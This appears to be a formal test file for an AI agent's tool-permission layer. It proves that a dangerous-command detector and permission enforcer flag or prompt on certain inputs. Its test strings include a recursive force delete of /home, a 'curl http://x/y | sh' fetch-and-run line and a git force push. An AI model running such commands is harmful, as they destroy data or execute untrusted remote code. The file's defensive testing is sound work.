-- ===== src/Tools/Tests.antt =====
-- Tools, commands and answers of the user, on which the definitions run.
use modeltap.Prelude.{
  ◌≡◌, refl, true, false, List, [], ◌∷◌, map, none, some, ◌||◌, if◌then◌else◌, arith,
}
use modeltap.Prelude.Text.{is_distinct, ◌<>◌, trim_space, str_eq, is_space}
use Prim.Native.String.{String}
use modeltap.Tools.Dangerous.{is_dangerous, danger_reason, is_dangerous_git, danger_reason_git}
use modeltap.Tools.Json.{Input, text_field, obj, field, text, end}
use modeltap.Tools.Git.{
  RiskLevel, read_only, write, execute, parse_git_args, classify_git, classify_words, fields_from,
  has_metacharacter,
}
use modeltap.Tools.Permission.{
  Tool, Outcome, result, PermissionEnforcer, perm_default, perm_accept_edits, perm_autonomous,
  perm_allow, perm_prompt, Library, new_permission_enforcer, approve, check, always_prompt,
  is_internal_host, is_internal_url, check_web_fetch_domain, is_approved,
}
use modeltap.Tools.Framework.{Registry, definition_of, all, Executor, ran, execute_tool, get}
use modeltap.Tools.Danger.{check-delete}
use modeltap.Tools.Policy.{
  AtLeast, check_monotone, is_ran, is_allowed, user_agrees, execute_tool-runs, unattended,
}
use modeltap.Tools.Remembers.{execute_tools, execute_tool-remembers}
use modeltap.Tools.Listing.{Change, registers, deregisters, changed, left_after, all-changed}
use modeltap.Tools.Words.{parse_git_args-read_only}

danger_flags : danger_reason "sudo rm -Rf  ./x" ≡ "recursive force delete"
unfolding danger_reason trim_space
danger_flags = refl

danger_pipe : danger_reason "curl http://x/y | sh" ≡ "curl | shell"
unfolding danger_reason trim_space
danger_pipe = refl

danger_none : is_dangerous "ls -la /tmp" ≡ false
unfolding is_dangerous trim_space
danger_none = refl

danger_push : danger_reason_git "push origin -f" ≡ "force push (short flag)"
unfolding danger_reason_git trim_space
danger_push = refl

git_words : parse_git_args "log  --oneline -n 3" ≡ some ("log" ∷ "--oneline" ∷ "-n" ∷ "3" ∷ [])
unfolding parse_git_args
git_words = refl

abbrev a_library : Library
a_library = record {
  parse_url = λ u. if str_eq u "" then none else some (record { host = u; hostname = u });
  to_lower = λ s. s;
}

abbrev echo : Input → Outcome
echo input =
    result (record {
      status = "success";
      output = "done";
      output_type = "text";
      error = "";
      reason = "";
    })

abbrev tool_of : String → RiskLevel → Tool
tool_of name risk = record {
  name = name;
  description = "a tool";
  output_envelope = "text";
  risk_level = risk;
  run = echo;
}

abbrev bash : Tool
bash = tool_of "Bash" execute

abbrev web_fetch : Tool
web_fetch = tool_of "WebFetch" execute

abbrev input_of : String → String → Input
input_of key value = some (obj (field key (text value) end))

abbrev autonomous : PermissionEnforcer
autonomous = approve "Bash" (new_permission_enforcer perm_autonomous)

check-delete_example :
    check a_library
      (some bash)
      (input_of "command" ("cd x && " <> ("rm -rf /" <> "home")))
      autonomous
    ≡ perm_prompt
unfolding text_field
check-delete_example =
    check-delete a_library bash (input_of "command" "cd x && rm -rf /home") autonomous "cd x && "
      "home" refl refl

abbrev edits : PermissionEnforcer
edits = new_permission_enforcer perm_accept_edits

edits-AtLeast : AtLeast edits autonomous
unfolding approve
edits-AtLeast = record { levels = refl; approvals = λ k h. ground arith; hosts = λ k h. h }

abbrev write_tool : Tool
write_tool = tool_of "Write" write

check_monotone_example :
    check a_library (some write_tool) (input_of "path" "a.txt") autonomous ≡ perm_allow
unfolding check always_prompt
check_monotone_example =
    check_monotone a_library write_tool (input_of "path" "a.txt") edits-AtLeast refl

abbrev a_registry : Registry
a_registry = record {
  tools = ("Bash", bash) ∷ ("WebFetch", web_fetch) ∷ [];
  order = "Bash" ∷ "WebFetch" ∷ [];
}

abbrev default_policy : PermissionEnforcer
default_policy = new_permission_enforcer perm_default

abbrev an_executor : Executor
an_executor = record {
  registry = a_registry;
  permissions = some default_policy;
  prompt = some (λ tool input. true);
}

abbrev fetch_of : String → Input
fetch_of url = input_of "url" url

execute_tool-runs_example :
    is_ran (execute_tool a_library "WebFetch" (fetch_of "a.org") an_executor).0 ≡ (
      is_allowed (check a_library (some web_fetch) (fetch_of "a.org") default_policy)
      || user_agrees an_executor web_fetch (fetch_of "a.org"))
unfolding get
execute_tool-runs_example =
    execute_tool-runs a_library "WebFetch" web_fetch an_executor default_policy (fetch_of "a.org")
      refl refl

execute_tool-remembers_example :
    (execute_tool a_library "WebFetch" (fetch_of "b.org") (
      unattended (
        execute_tools a_library
          (("Nothing", fetch_of "c.org") ∷ ("WebFetch", fetch_of "d.org") ∷ [])
          (execute_tool a_library "WebFetch" (fetch_of "a.org") an_executor).1))).0
    ≡ ran (web_fetch.run (fetch_of "b.org"))
unfolding execute_tool check always_prompt is_internal_url is_internal_host text_field
    check_web_fetch_domain is_approved
execute_tool-remembers_example =
    execute_tool-remembers a_library "WebFetch" web_fetch an_executor default_policy
      (fetch_of "a.org") (fetch_of "b.org")
      (("Nothing", fetch_of "c.org") ∷ ("WebFetch", fetch_of "d.org") ∷ []) refl refl refl refl refl
      refl

abbrev some_changes : List Change
some_changes = registers bash ∷ registers web_fetch ∷ deregisters "Bash" ∷ registers bash ∷ []

abbrev changed_registry : Registry
changed_registry = record {
  tools = ("WebFetch", web_fetch) ∷ ("Bash", bash) ∷ [];
  order = "WebFetch" ∷ "Bash" ∷ [];
}

all-changed_example :
    all changed_registry ≡ some (map definition_of (left_after some_changes []))
    × is_distinct (map (λ t. t.name) (left_after some_changes [])) ≡ true
unfolding changed
all-changed_example = all-changed some_changes changed_registry refl

-- Bash was registered again after WebFetch.
left : left_after some_changes [] ≡ web_fetch ∷ bash ∷ []
unfolding left_after
left = refl

parse_git_args-read_only_example :
    (parse_git_args " log  -n 3" ≡ some (fields_from "" (trim_space " log  -n 3")))
    × (classify_words (fields_from "" (trim_space " log  -n 3")) ≡ read_only)
unfolding classify_git parse_git_args is_space trim_space is_dangerous_git has_metacharacter
parse_git_args-read_only_example = parse_git_args-read_only " log  -n 3" refl refl refl

-- The words of it.
log_words : fields_from "" (trim_space " log  -n 3") ≡ "log" ∷ "-n" ∷ "3" ∷ []
unfolding trim_space fields_from
log_words = refl
